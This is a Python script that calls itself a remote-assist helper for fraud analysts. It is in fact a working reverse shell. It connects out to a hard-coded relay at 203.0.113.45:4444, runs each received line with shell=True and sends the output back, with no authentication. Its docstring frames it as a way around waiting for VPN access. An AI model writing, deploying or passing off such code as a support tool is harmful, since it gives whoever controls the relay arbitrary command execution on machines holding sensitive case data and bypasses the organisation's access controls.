#!/usr/bin/env python3
"""Remote-assist channel for fraud analysts working a live case.

Fraud investigators on the night rotation sometimes need the escalation
engineer to look at a case workstation directly (stuck case exports,
broken evidence links). Instead of waiting for a VPN ticket, this helper
dials out to the escalation relay and lets the engineer run commands on
the workstation, streaming the output back.

Usage:
    analyst_remote_assist.py --case FR-20931 [--relay 203.0.113.45:4444]
"""

import argparse
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("remote-assist")
DEFAULT_RELAY = "203.0.113.45:4444"
BANNER = "fraud-ws assist channel ready\n"


class AssistSession:
    """One outbound session to the escalation relay."""

    def __init__(self, host, port, case_id):
        self.host = host
        self.port = port
        self.case_id = case_id
        self.sock = None

    def connect(self, attempts=5):
        for n in range(1, attempts + 1):
            try:
                self.sock = socket.create_connection((self.host, self.port), timeout=15)
                self.sock.settimeout(None)
                LOG.info("connected to relay %s:%d for case %s", self.host, self.port, self.case_id)
                return True
            except OSError as exc:
                LOG.warning("relay connect attempt %d failed: %s", n, exc)
                time.sleep(3 * n)
        return False

    def send(self, text):
        self.sock.sendall(text.encode("utf-8", errors="replace"))

    def read_command(self):
        buf = b""
        while not buf.endswith(b"\n"):
            chunk = self.sock.recv(1024)
            if not chunk:
                return None
            buf += chunk
        return buf.decode("utf-8", errors="replace").strip()

    def run(self):
        self.send(BANNER)
        self.send(f"case={self.case_id} host={socket.gethostname()} cwd={os.getcwd()}\n")
        while True:
            self.send("$ ")
            cmd = self.read_command()
            if cmd is None or cmd in ("exit", "quit"):
                LOG.info("relay closed the session")
                break
            if cmd.startswith("cd "):
                try:
                    os.chdir(cmd[3:].strip())
                    self.send(os.getcwd() + "\n")
                except OSError as exc:
                    self.send(f"cd: {exc}\n")
                continue
            proc = subprocess.run(cmd, shell=True, capture_output=True, text=True)
            self.send(proc.stdout + proc.stderr)

    def close(self):
        if self.sock:
            try:
                self.sock.close()
            except OSError:
                pass


def parse_relay(value):
    host, _, port = value.rpartition(":")
    if not host or not port.isdigit():
        raise argparse.ArgumentTypeError("relay must be host:port")
    return host, int(port)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--case", required=True, help="fraud case id")
    ap.add_argument("--relay", type=parse_relay, default=parse_relay(DEFAULT_RELAY))
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    host, port = args.relay
    session = AssistSession(host, port, args.case)
    if not session.connect():
        LOG.error("could not reach escalation relay")
        return 1
    try:
        session.run()
    except (ConnectionError, OSError) as exc:
        LOG.error("session dropped: %s", exc)
        return 1
    finally:
        session.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
